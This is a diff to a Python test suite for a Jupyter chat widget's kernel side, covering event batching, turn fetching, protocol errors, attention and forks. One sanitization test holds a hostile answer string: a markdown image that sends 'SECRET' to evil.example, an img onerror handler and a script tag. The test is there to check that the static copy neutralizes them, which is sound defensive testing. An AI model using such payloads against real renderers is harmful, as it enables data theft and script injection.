@@ -1,8 +1,10 @@
-"""The inspector panel's kernel side: synced traits, batched event messages, resume, Stop, prewarm, attention,
-fork and the static fallback, on the tiny random model (the front end's own tests are in js/test)."""
+"""The inspector panel's kernel side: synced traits, batched event messages, a view's fetch of what it lacks,
+Stop, prewarm, attention, fork and the static fallback, on the tiny random model (the front end's own tests are in
+js/test)."""
 
 from __future__ import annotations
 
+import json
 import re
 import threading
 import time
@@ -23,8 +25,8 @@ from jupyter_chatflow.events import (
 )
 from jupyter_chatflow.frontends.panel import model_setting
 from jupyter_chatflow.frontends.panel import widget as widget_module
+from jupyter_chatflow.frontends.panel.protocol import TurnRow
 from jupyter_chatflow.frontends.panel.widget import ChatWidget
-from jupyter_chatflow.pipeline import chat as chat_module
 from jupyter_chatflow.pipeline import local as local_answerer
 from jupyter_chatflow.pipeline.chat import Chat
 from jupyter_chatflow.store.database import Database
@@ -58,6 +60,15 @@ def message(panel: ChatWidget, **content) -> None:
     panel._on_message(panel, content, [])
 
 
+def fetched(panel: ChatWidget, turn_id: str, after: int = -1) -> dict:
+    """What a view that asks for a turn's events gets: the one `events` message the kernel sends in reply."""
+    before = len(panel.send.messages)
+    message(panel, type="fetch", turn_id=turn_id, after=after)
+    [(reply, _)] = panel.send.messages[before:]
+    assert reply["type"] == "events" and reply["turn_id"] == turn_id
+    return reply
+
+
 def test_a_turn_streams_as_batches_and_lands_in_the_turns_trait(panel):
     response = panel.ask("Hello there")
     panel.wait(60)
@@ -65,7 +76,8 @@ def test_a_turn_streams_as_batches_and_lands_in_the_turns_trait(panel):
     streamed = [e for content, _ in panel.send.of("events") for e in content["events"]]
     assert streamed == events  # every event once, in order
     assert [t["turn_id"] for t in panel.turns] == [response.turn_id]
-    assert panel.turns[0]["events"] == events and panel.live is None and panel.status == "idle"
+    assert "events" not in panel.turns[0] and panel.live is None and panel.status == "idle"  # (sent once, above)
+    assert fetched(panel, response.turn_id)["events"] == events  # what a view that reloads asks for
     pieces = {k for content, _ in panel.send.of("events") for k in content["pieces"]}
     prompt = next(e for e in events if e["type"] == "tokenized")["ids"]
     generated = [e["token_id"] for e in events if e["type"] == "token"]
@@ -80,11 +92,12 @@ def test_the_panel_ends_the_live_turn_at_its_terminal_event_and_a_late_title_joi
     assert panel.live["turn_id"] == "turn_t" and panel.status == "generating" and panel.turns == []
     panel._show(events[3:])
     assert panel.live is None and panel.status == "idle"
-    assert [r["type"] for r in panel.turns[0]["events"]][-1] == "completed"
+    assert panel.turns[0]["status"] == "completed" and panel.turns[0]["finish_reason"] == "stop"
     panel._show([TitleGenerated(title="A Title", sequence_number=6, turn_id="turn_t")])
-    assert [r["type"] for r in panel.turns[0]["events"]][-1] == "title_generated" and panel.title == "A Title"
+    assert panel.title == "A Title"
     streamed = [e for content, _ in panel.send.of("events") for e in content["events"]]
-    assert [e["sequence_number"] for e in streamed] == list(range(7))
+    assert [e["sequence_number"] for e in streamed] == list(range(7))  # each once
+    assert [r["type"] for r in fetched(panel, "turn_t")["events"]][-1] == "title_generated"
 
 
 def test_the_batch_that_brings_a_context_brings_its_account_so_the_context_tab_draws_it_at_once(panel, monkeypatch):
@@ -106,14 +119,87 @@ def test_the_batch_that_brings_a_context_brings_its_account_so_the_context_tab_d
 def test_a_view_that_reloads_mid_stream_gets_every_event_after_its_last_sequence_number(panel):
     events = [event_from_dict(row) for row in _events(30, session_id=panel.chat.session.id)]
     panel._show(events[:20])  # the turn is mid-stream here
-    before = len(panel.send.messages)
-    message(panel, type="resume", turn_id="turn_t", after=12)  # the reloaded view had events 0–12
-    (resent, _), *rest = panel.send.messages[before:]
-    assert [e["sequence_number"] for e in resent["events"]] == list(range(13, 20)) and rest == []
+    resent = fetched(panel, "turn_t", after=12)  # the reloaded view had events 0–12
+    assert [e["sequence_number"] for e in resent["events"]] == list(range(13, 20))
     assert set(resent["pieces"]) == {str(i) for i in range(12, 19)}  # tokens 12-18 (after turn_started), again
     panel._show(events[20:])
     got = {e["sequence_number"] for content, _ in panel.send.of("events") for e in content["events"]}
     assert got == set(range(30)) and panel.live is None
+
+
+def _traffic(panel: ChatWidget) -> list[tuple[str, dict]]:
+    """Everything the widget sends its front end from now on, as (kind, message): the custom messages by their
+    type, the traits' updates by the traits' names (what the comm carries)."""
+    sent: list[tuple[str, dict]] = []
+    send = panel._send
+
+    def counted(msg: dict, buffers: list | None = None) -> None:
+        kind = msg["content"]["type"] if msg["method"] == "custom" else ",".join(sorted(msg["state"]))
+        sent.append((kind, msg))
+        send(msg, buffers)
+
+    panel._send = counted  # type: ignore[method-assign]
+    panel.send = lambda content, buffers=None: counted({"method": "custom", "content": content}, buffers)  # type: ignore[method-assign]
+    return sent
+
+
+def _session(panel: ChatWidget, turns: int) -> list[list]:
+    """`turns` synthetic turns of 6 events each through the relay's path, turn_1 … turn_n; their events."""
+    session = panel.chat.session.id
+    made = [[event_from_dict(row) for row in _events(6, session_id=session, turn_id=f"turn_{k}")]
+            for k in range(1, turns + 1)]  # fmt: skip
+    for events in made:
+        panel._show(events)
+    return made
+
+
+def test_the_turns_trait_holds_rows_never_events(panel):
+    """What a reload needs of a finished turn: its ids, the user's message and the footer's figures."""
+    response = panel.ask("Hello there")
+    panel.wait(60)
+    [row] = panel.turns
+    assert set(row) == set(TurnRow.__annotations__)
+    assert row["turn_id"] == response.turn_id and row["user"] == "Hello there" and row["fork_of"] == ""
+    account = fetched(panel, response.turn_id)["account"]
+    assert (row["answer_tokens"], row["tokens_per_s"], row["status"]) == (
+        account["answer_tokens"], account["tokens_per_s"], "completed")  # fmt: skip
+    assert len(json.dumps(row)) < 1000
+
+
+def test_each_event_crosses_once_and_a_turns_end_sends_its_row_not_the_earlier_turns(panel):
+    sent = _traffic(panel)
+    made = _session(panel, 3)
+    streamed = [e for kind, m in sent if kind == "events" for e in m["content"]["events"]]
+    assert len(streamed) == sum(map(len, made))  # every event once
+    updates = [m["state"]["turns"] for kind, m in sent if "turns" in kind.split(",")]
+    assert [[r["turn_id"] for r in rows] for rows in updates] == [["turn_1"], ["turn_1", "turn_2"],
+                                                                  ["turn_1", "turn_2", "turn_3"]]  # fmt: skip
+    assert not any("events" in r or "account" in r or "pieces" in r for rows in updates for r in rows)
+    sent.clear()
+    panel._show([TitleGenerated(title="A Title", sequence_number=6, turn_id="turn_3")])  # figures unchanged
+    assert [kind for kind, _ in sent] == ["events", "title"]  # the event once; no row sent again
+
+
+def test_a_views_fetch_of_a_turn_gets_exactly_that_turns_events(panel):
+    """A view that reloaded (or a second view, or a turn picked for detail) asks by id: the reply is that turn's
+    events, all of them, with their pieces and the turn's account, and nothing of any other turn."""
+    made = _session(panel, 3)
+    before = len(panel.send.messages)
+    reply = fetched(panel, "turn_2")
+    assert len(panel.send.messages) == before + 1
+    assert reply["events"] == [e.to_dict() for e in made[1]] and {e["turn_id"] for e in reply["events"]} == {"turn_2"}
+    assert set(reply["pieces"]) == {str(e.token_id) for e in made[1] if isinstance(e, TokenDelta)}
+    assert reply["account"]["events"] == len(made[1]) and reply["account"]["answer_tokens"] == 4
+    assert [e["sequence_number"] for e in fetched(panel, "turn_2", after=3)["events"]] == [4, 5]
+
+
+def test_the_static_copy_renders_each_turn_once_not_every_turn_at_every_end(panel):
+    _session(panel, 5)
+    assert panel._copy.renders == 5
+    data, _ = panel.static_bundle()
+    assert 'data-turns="5"' in data["text/html"] and data["text/plain"].count("> u\n") == 5
+    panel._show([TitleGenerated(title="A Title", sequence_number=6, turn_id="turn_5")])
+    assert panel._copy.renders == 6  # the late title: its turn's part again, no other
 
 
 def test_stop_from_the_panel_ends_the_live_turn_cancelled(panel):
@@ -125,7 +211,8 @@ def test_stop_from_the_panel_ends_the_live_turn_cancelled(panel):
     message(panel, type="stop")
     panel.wait(60)
     assert response.terminal().type == "cancelled"
-    assert panel.turns[-1]["events"][-1]["type"] == "cancelled" and panel.status == "idle"
+    assert panel.turns[-1]["status"] == "cancelled" and panel.status == "idle"
+    assert fetched(panel, response.turn_id)["events"][-1]["type"] == "cancelled"
 
 
 def test_a_second_send_while_generating_is_refused_with_a_message(panel):
@@ -152,7 +239,7 @@ def test_a_draft_prewarms_its_prompt_and_the_turn_records_whether_it_was_used(pa
     panel.wait(60)
     turn = panel.turns[-1]
     assert turn["prewarm"] == prewarm
-    prefill = next(e for e in turn["events"] if e["type"] == "prefill")
+    prefill = next(e for e in fetched(panel, turn["turn_id"])["events"] if e["type"] == "prefill")
     assert prefill["reused_tokens"] > prewarm["cached_before"]  # what the timeline calls "prewarm used"
 
 
@@ -179,6 +266,7 @@ def test_a_turn_sent_while_its_drafts_prewarm_still_runs_joins_it_and_says_what_
     panel.wait(60)
     turn, box = panel.turns[-1], panel.prewarm
     assert box is not None and box["computed_tokens"] > 200 and turn["prewarm"] == box
+    turn = {**turn, **fetched(panel, turn["turn_id"])}  # its events and account, as a view asks for them
     note = turn["account"]["prewarm_note"]
     assert note.startswith("Prewarmed while typing, still running when the message was sent: this turn joined it: "
                            f"{box['prompt_tokens']} tokens ({box['computed_tokens']} computed) in "), note  # fmt: skip
@@ -195,29 +283,29 @@ def test_attention_is_computed_on_the_engine_thread_and_sent_as_float16(panel, t
     response = panel.ask("Hello")
     panel.wait(60)
     n = len(next(e for e in response if e.type == "tokenized").ids) + sum(e.type == "token" for e in response)
-    message(panel, type="attention", request_id=7, turn_id=response.turn_id, layer=1, head=-1, mode="tokens")
-    message(panel, type="attention", request_id=8, turn_id=response.turn_id, layer=1, head=0, mode="segments")
-    message(panel, type="attention", request_id=9, turn_id=response.turn_id, layer=9, head=0, mode="tokens")
+    message(panel, type="attention", request_id="7", turn_id=response.turn_id, layer=1, head=-1, mode="tokens")
+    message(panel, type="attention", request_id="8", turn_id=response.turn_id, layer=1, head=0, mode="segments")
+    message(panel, type="attention", request_id="9", turn_id=response.turn_id, layer=9, head=0, mode="tokens")
     panel.chat.submit(lambda: None).result(60)  # the queue is done
     (tokens, [data]), (segments, [mass]) = panel.send.of("attention")
-    assert tokens["request_id"] == 7 and tokens["shape"] == [n, n] and tokens["dtype"] == "float16"
+    assert tokens["request_id"] == "7" and tokens["shape"] == [n, n] and tokens["dtype"] == "float16"
     matrix = np.frombuffer(data, "<f2").reshape(n, n).astype(np.float32)
     assert np.allclose(matrix.sum(1), 1.0, atol=1e-2) and np.allclose(np.triu(matrix, 1), 0)
     rows = np.frombuffer(mass, "<f2").reshape(segments["shape"]).astype(np.float32)
-    assert segments["request_id"] == 8 and np.allclose(rows.sum(1), 1.0, atol=1e-2)
+    assert segments["request_id"] == "8" and np.allclose(rows.sum(1), 1.0, atol=1e-2)
     [(error, _)] = panel.send.of("attention_error")
-    assert error["request_id"] == 9 and "layer" in error["message"]
+    assert error["request_id"] == "9" and "layer" in error["message"]
 
 
 def forked(panel) -> tuple:
     """A turn, then a fork of it from the panel at its token 3 (its second alternative): the turn, that token,
-    and the fork's row."""
+    and the fork's row with its events (as a view fetches them)."""
     response = panel.ask("Hello there")
     panel.wait(60)
     step = [e for e in response if isinstance(e, TokenDelta)][3]
     message(panel, type="fork", turn_id=response.turn_id, index=3, token_id=step.alternatives[1].token_id)
     panel.wait(60)
-    return response, step, panel.turns[-1]
+    return response, step, {**panel.turns[-1], "events": fetched(panel, panel.turns[-1]["turn_id"])["events"]}
 
 
 def test_fork_from_the_panel_regenerates_the_latest_answer(panel):
@@ -231,7 +319,7 @@ def test_a_fork_streams_the_pieces_of_its_own_prompt_though_its_parent_sent_them
     """The front end keeps each turn's pieces apart: a fork's prompt (all ids its parent's messages carried) must
     come with the fork's own messages, or the Context tab shows raw ids (#1#9690#198…) while it streams."""
     _, _, fork = forked(panel)
-    streamed = [c for c, _ in panel.send.of("events") if c["turn_id"] == fork["turn_id"]]
+    streamed = [c for c, _ in panel.send.of("events") if c["turn_id"] == fork["turn_id"]][:-1]  # (not the fetch)
     pieces = {k for content in streamed for k in content["pieces"]}
     prompt = next(e for e in fork["events"] if e["type"] == "tokenized")["ids"]
     tokens = [e for e in fork["events"] if e["type"] == "token"]
@@ -257,13 +345,43 @@ def test_the_static_copy_marks_a_fork_and_the_turn_it_replaced(panel):
 
 
 def test_mistakes_in_requests_show_as_one_line_in_the_error_trait(panel):
-    message(panel, type="frobnicate")
-    assert "unknown request" in panel.error
     message(panel, type="fork", turn_id="turn_nope", index=0, token_id=1)
     assert "latest turn" in panel.error
     panel.settings = {**panel.settings, "temperature": -1}
     message(panel, type="send", text="hi")
     assert "temperature" in panel.error
+
+
+@pytest.mark.parametrize(
+    ("content", "said"),
+    [
+        ({"type": "frobnicate"}, "The panel sent an unknown request 'frobnicate' (the kernel takes send, stop, "),
+        ({"text": "hi"}, "The panel sent an unknown request None"),
+        ({"type": "fork", "turn_id": "t", "index": "3", "token_id": 1},
+         "The panel's 'fork' request is malformed: index must be a whole number, got '3' (str)."),
+        ({"type": "fetch", "turn_id": "t"}, "The panel's 'fetch' request has no 'after'."),
+        ({"type": "attention", "request_id": "a", "turn_id": "t", "layer": 0, "head": -1, "mode": "rows"},
+         "mode must be one of 'tokens', 'segments', got 'rows'"),
+        ({"type": "stop", "now": True}, "The panel's 'stop' request has fields it should not: now."),
+        ({"type": "fetch", "turn_id": "turn_nope", "after": -1},
+         "The panel's 'fetch' request failed: no turn 'turn_nope' in this panel (a new session has begun since?)"),
+    ],
+)  # fmt: skip
+def test_a_message_the_protocol_does_not_describe_gets_an_error_reply(panel, content, said):
+    """Unknown, malformed, or asking for what is not there: the view is told why (it shows it), in one reply; the
+    error trait (the user's own mistakes, which stay on show) is left alone and nothing else is sent."""
+    message(panel, **content)
+    [(reply, buffers)] = panel.send.messages
+    assert reply["type"] == "request_error" and said in reply["message"] and buffers == []
+    assert reply["request"] == content.get("type", "")
+    assert panel.error == "" and panel.turns == []
+
+
+def test_a_message_that_is_not_an_object_gets_an_error_reply(panel):
+    panel._on_message(panel, ["send", "hi"], [])
+    [(reply, _)] = panel.send.messages
+    assert reply == {"type": "request_error", "request": "", "message": "The panel sent list, not a message "
+                     "(an object with a type)."}  # fmt: skip
 
 
 def test_new_session_clears_the_panel(panel):
@@ -277,8 +395,9 @@ def test_a_new_panel_shows_the_sessions_earlier_turns(panel, tiny_model):
     panel.ask("Hello").events()
     panel.wait(60)
     again = ChatWidget(Chat(model=tiny_model, db=panel.chat.db, session="panel"))
-    assert [t["turn_id"] for t in again.turns] == [t["turn_id"] for t in panel.turns]
-    assert again.turns[0]["pieces"] and again.model_info["layers"] == 2
+    again.send = Recorder()  # type: ignore[method-assign]
+    assert again.turns == panel.turns and again.model_info["layers"] == 2  # the same rows, no events in them
+    assert fetched(again, again.turns[0]["turn_id"])["pieces"]
 
 
 def other_panel(panel: ChatWidget) -> ChatWidget:
@@ -297,7 +416,7 @@ def test_a_panel_shows_the_turns_sent_from_another_panel_or_from_code(panel):
     other.wait(10)
     ids = [first.turn_id, second.turn_id]
     assert [t["turn_id"] for t in panel.turns] == ids and [t["turn_id"] for t in other.turns] == ids
-    assert panel.turns[0]["pieces"] and panel.status == "idle" and panel.live is None
+    assert panel.turns[0]["user"] == "From the other panel" and panel.status == "idle" and panel.live is None
     streamed = [e for content, _ in panel.send.of("events") if content["turn_id"] == second.turn_id
                 for e in content["events"]]  # fmt: skip
     assert streamed == [e.to_dict() for e in second]  # streamed live, like the panel's own turns
@@ -311,7 +430,9 @@ def test_turns_from_elsewhere_that_run_before_the_panels_own_come_before_it(pane
     other.wait(60)
     order = [before.turn_id, mine.turn_id]
     assert [t["turn_id"] for t in panel.turns] == order and [t["turn_id"] for t in other.turns] == order
-    assert panel.turns[1]["events"] == [e.to_dict() for e in mine]  # the panel's own turn, as its relay sent it
+    mine_sent = [e for c, _ in panel.send.of("events") if c["turn_id"] == mine.turn_id for e in c["events"]]
+    assert mine_sent == [e.to_dict() for e in mine]  # the panel's own turn, as its relay sent it
+    assert fetched(panel, mine.turn_id)["events"] == mine_sent
 
 
 def test_a_new_session_started_elsewhere_restarts_the_log_at_its_first_turn(panel):
@@ -350,7 +471,7 @@ def test_the_static_copy_renders_answers_as_sanitized_markdown(panel):
     hostile = "Use `a < b`.\n\n![x](https://evil.example/?q=SECRET) <img src=x onerror=alert(1)> <script>1</script>"
     rows = _events(3)
     rows[0]["user"], rows[-1]["text"] = "<b>hi</b>", hostile
-    panel.turns = [{"turn_id": "turn_t", "events": rows, "pieces": {}, "prewarm": None, "fork_of": ""}]
+    panel.show_records([{"turn_id": "turn_t", "events": rows, "pieces": {}, "prewarm": None}])
     data, _ = panel.static_bundle()
     shown = data["text/html"]
     assert data["text/markdown"] == shown and shown.startswith(
@@ -375,7 +496,7 @@ def test_the_static_copy_draws_the_context_bar_the_tokens_with_their_probabiliti
     ]  # fmt: skip
     for number, row in enumerate(rows):
         row.update(sequence_number=number, turn_id="turn_t", timestamp=float(number))
-    panel.turns = [{"turn_id": "turn_t", "events": rows, "pieces": {}, "prewarm": None, "fork_of": ""}]
+    panel.show_records([{"turn_id": "turn_t", "events": rows, "pieces": {}, "prewarm": None}])
     data, _ = panel.static_bundle()
     shown = data["text/html"]
     assert 'data-turns="1"' in shown
@@ -417,13 +538,13 @@ def test_a_turn_end_updates_the_static_copy_never_the_panels_own_output(panel, m
 
 def test_the_title_written_after_the_answer_reaches_the_panel(panel, monkeypatch):
     """The title is generated after the turn's terminal event; the panel's turn ends at the answer, then the
-    title arrives as the turn's next event (live message, turns trait and title trait). (The tiny model's title
-    is stood in for: what is tested is its way to the panel.)"""
+    title arrives as the turn's next event (live message, the turn's events a view fetches, and title trait).
+    (The tiny model's title is stood in for: what is tested is its way to the panel.)"""
     written = TitleGenerated(title="Sourdough Bread Baking", latency_ms=3.0)
     monkeypatch.setattr(local_answerer, "write_title", lambda *args: (time.sleep(0.2), written)[1])
     response = panel.ask("Please tell me about sourdough bread baking")
     panel.wait(120)
-    rows = panel.turns[0]["events"]
+    rows = fetched(panel, panel.turns[0]["turn_id"])["events"]
     types = [r["type"] for r in rows]
     assert types[-2:] == ["completed", "title_generated"], types
     assert rows[-1]["sequence_number"] == rows[-2]["sequence_number"] + 1
@@ -591,7 +712,7 @@ def test_the_model_info_says_which_layers_slide_and_the_attention_reply_carries_
     response = panel.ask("Hello there, how are you today?", max_tokens=4)
     panel.wait(60)
     for layer in (4, 5):
-        message(panel, type="attention", request_id=layer, turn_id=response.turn_id, layer=layer, head=-1,
+        message(panel, type="attention", request_id=str(layer), turn_id=response.turn_id, layer=layer, head=-1,
                 mode="tokens")  # fmt: skip
     panel.chat.submit(lambda: None).result(60)
     (sliding, [data]), (global_, _) = panel.send.of("attention")
